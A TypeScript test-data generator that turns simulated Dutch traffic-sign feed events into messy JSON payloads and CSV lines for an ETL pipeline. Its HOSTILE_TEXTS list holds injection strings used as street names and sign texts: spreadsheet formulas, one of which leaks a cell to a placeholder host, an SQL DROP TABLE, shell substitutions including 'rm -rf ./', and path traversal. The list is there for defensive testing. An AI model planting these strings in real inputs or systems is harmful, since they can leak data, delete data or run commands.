/**
 * Turns feed events into payloads as the real service sends them: nested
 * objects, numbers sometimes as strings, dates as dd/MM/yyyy or ISO, "" for an
 * absent date, nulls, text_signs as null, "" or a list, some text mis-encoded,
 * and from schema 1.1 a field the 1.0 schema does not have.
 */
import { choose, hash, unit } from '../../util/hash.js';
import { wgs84ToRd } from '../../util/geo.js';
import { formatDutchDate, formatIsoDate, formatMilliTimestamp, DAY_MS } from '../../util/time.js';
import { STREETS, TOWNS, misEncode } from '../places.js';
import type { FeedEvent } from './feed.js';

export type SignPayload = Record<string, unknown>;

const RVV_CODES = [
  'A1',
  'A4',
  'B1',
  'B6',
  'C1',
  'C2',
  'C3',
  'C7',
  'C22',
  'D1',
  'D2',
  'E1',
  'E4',
  'F1',
  'F3',
  'G5',
  'G7',
  'G11',
  'J1',
  'J22',
  'L2',
  'OB01',
] as const;
const TEXTS = [
  'Uitgezonderd fietsers',
  'Uitgezonderd bestemmingsverkeer',
  'Ma t/m vr 7-19 h',
  'Einde zone',
  'Zone',
  'Hele dag',
] as const;
const SIDES = ['R', 'L', 'N', 'O', 'Z', 'W', null] as const;
const ROAD_TYPES = ['G', 'G', 'G', 'P', 'R', 'W'] as const;
const SCHEMA_1_1_FROM = Date.parse('2024-03-01T00:00:00Z');

/** A number as it arrives: sometimes a JSON number, sometimes the same number as a string. */
function looseNumber(value: number, digits: number, h: number): number | string {
  const factor = 10 ** digits;
  const rounded = Math.round(value * factor) / factor;
  return h % 5 === 0 ? String(rounded) : rounded;
}

/** A date as it arrives: dd/MM/yyyy mostly, sometimes ISO, sometimes "" or null. */
function looseDate(ms: number | undefined, h: number): string | null {
  if (ms === undefined) return h % 2 === 0 ? '' : null;
  if (h % 7 === 0) return formatIsoDate(ms);
  return formatDutchDate(ms);
}

/**
 * Free text that must stay data: spreadsheet formulas (OWASP CSV injection),
 * SQL, shell syntax and paths.
 */
export const HOSTILE_TEXTS = [
  '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
  '+SUM(1,2)',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  "'); DROP TABLE signs_events; --",
  '$(touch /tmp/road-etl-hostile)',
  '`touch /tmp/road-etl-hostile`; rm -rf ./',
  '../../../../tmp/road-etl-hostile',
] as const;

export class SignPayloads {
  readonly #seed: number;

  constructor(seed: number) {
    this.#seed = seed;
  }

  /** The sign's public identifier: a large integer, unique per sign. */
  signId(sign: number): number {
    return 100_000_000 + sign * 37 + (hash(this.#seed, sign, 0x1d) % 37);
  }

  build(event: FeedEvent, townIndex: number, bad = false, hostile = false): SignPayload {
    const seed = this.#seed;
    const { sign, round, part, time } = event;
    const h = (k: number): number => hash(seed, sign, k);
    const e = (k: number): number => hash(seed, sign, round * 4 + part, k);
    const town = TOWNS[townIndex]!;

    const latitude = town.latitude + (unit(seed, sign, 1) - 0.5) * 0.08;
    const longitude = town.longitude + (unit(seed, sign, 2) - 0.5) * 0.12;
    const rd = wgs84ToRd(latitude, longitude);
    const street = hostile ? choose(HOSTILE_TEXTS, seed, sign, 3) : choose(STREETS, seed, sign, 3);
    const roadType = choose(ROAD_TYPES, seed, sign, 4);
    const firstSeen = time - Math.floor(unit(seed, sign, 5) * 400) * DAY_MS;
    const textCount = h(6) % 4 === 0 ? 1 + (h(7) % 2) : 0;
    const texts = Array.from({ length: textCount }, (_, i) =>
      choose(hostile ? HOSTILE_TEXTS : TEXTS, seed, sign, 8 + i),
    );
    const rvv =
      unit(seed, sign, round, 9) < 0.08
        ? choose(RVV_CODES, seed, sign, round)
        : choose(RVV_CODES, seed, sign, 10);
    const mangle = e(11) % 23 === 0;
    const validatedOn = e(12) % 3 === 0 ? undefined : time - (e(13) % 30) * DAY_MS;

    const payload: SignPayload = {
      id: bad ? `${this.signId(sign)}x` : looseNumber(this.signId(sign), 0, e(14)),
      type: event.type,
      schema_version: time >= SCHEMA_1_1_FROM ? '1.1' : '1.0',
      publication_timestamp: formatMilliTimestamp(time),
      validated: part === 1 ? 'J' : e(15) % 3 === 0 ? 'N' : 'J',
      validated_on: looseDate(validatedOn, e(16)),
      user_id: e(17) % 11 === 0 ? null : looseNumber(1000 + (e(18) % 900), 0, e(19)),
      organisation_id: looseNumber(10 + (h(20) % 400), 0, e(21)),
      rvv_code: rvv,
      text_signs: textCount > 0 ? texts : h(22) % 3 === 0 ? null : h(22) % 3 === 1 ? '' : [],
      location: {
        wgs84: {
          latitude: looseNumber(latitude, 7, e(23)),
          longitude: looseNumber(longitude, 7, e(24)),
        },
        rd: { x: looseNumber(rd.x, 3, e(25)), y: looseNumber(rd.y, 3, e(26)) },
        placement: h(27) % 9 === 0 ? null : h(27) % 4 === 0 ? 'B' : 'L',
        side: choose(SIDES, seed, sign, 28),
        road: {
          name: mangle ? misEncode(street) : street,
          type: roadType,
          number: roadType === 'G' ? null : looseNumber(1 + (h(29) % 350), 0, e(30)),
          wvk_id: looseNumber(200_000_000 + (h(31) % 90_000_000), 0, e(32)),
        },
        county: {
          name: town.name,
          code: town.code,
          townname: mangle ? misEncode(town.name) : town.name,
        },
      },
      details: {
        image: `https://images.example.invalid/traffic-signs/${this.signId(sign)}/${round}${part}.jpg`,
        first_seen: looseDate(firstSeen, h(33)),
        last_seen: looseDate(time - (e(34) % 20) * DAY_MS, e(35)),
        removed: looseDate(event.type === 'deleted' ? time : undefined, e(36)),
      },
    };
    if (time >= SCHEMA_1_1_FROM) {
      // Schema 1.1 adds a field the 1.0 schema does not know.
      (payload['details'] as Record<string, unknown>)['condition'] =
        e(37) % 5 === 0 ? null : choose(['goed', 'matig', 'slecht'] as const, seed, sign, round);
    }
    return payload;
  }
}

/** CSV columns of the current-state download: the payload flattened with dots. */
export const CSV_COLUMNS = [
  'id',
  'type',
  'schema_version',
  'publication_timestamp',
  'validated',
  'validated_on',
  'user_id',
  'organisation_id',
  'rvv_code',
  'text_signs',
  'location.wgs84.latitude',
  'location.wgs84.longitude',
  'location.rd.x',
  'location.rd.y',
  'location.placement',
  'location.side',
  'location.road.name',
  'location.road.type',
  'location.road.number',
  'location.road.wvk_id',
  'location.county.name',
  'location.county.code',
  'location.county.townname',
  'details.image',
  'details.first_seen',
  'details.last_seen',
  'details.removed',
  'details.condition',
] as const;

/** One CSV field: quoted when it holds a quote, comma or line break; a non-text value as JSON. */
export function csvField(value: unknown): string {
  if (value === null || value === undefined) return '';
  const text = typeof value === 'string' ? value : JSON.stringify(value);
  return /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

function lookup(payload: SignPayload, path: string): unknown {
  let value: unknown = payload;
  for (const key of path.split('.')) {
    if (typeof value !== 'object' || value === null) return undefined;
    value = (value as Record<string, unknown>)[key];
  }
  return value;
}

/** One CSV line (with CRLF) of a payload; text_signs as a JSON list. */
export function toCsvLine(payload: SignPayload): string {
  return CSV_COLUMNS.map((column) => csvField(lookup(payload, column))).join(',') + '\r\n';
}

export const CSV_HEADER = CSV_COLUMNS.join(',') + '\r\n';
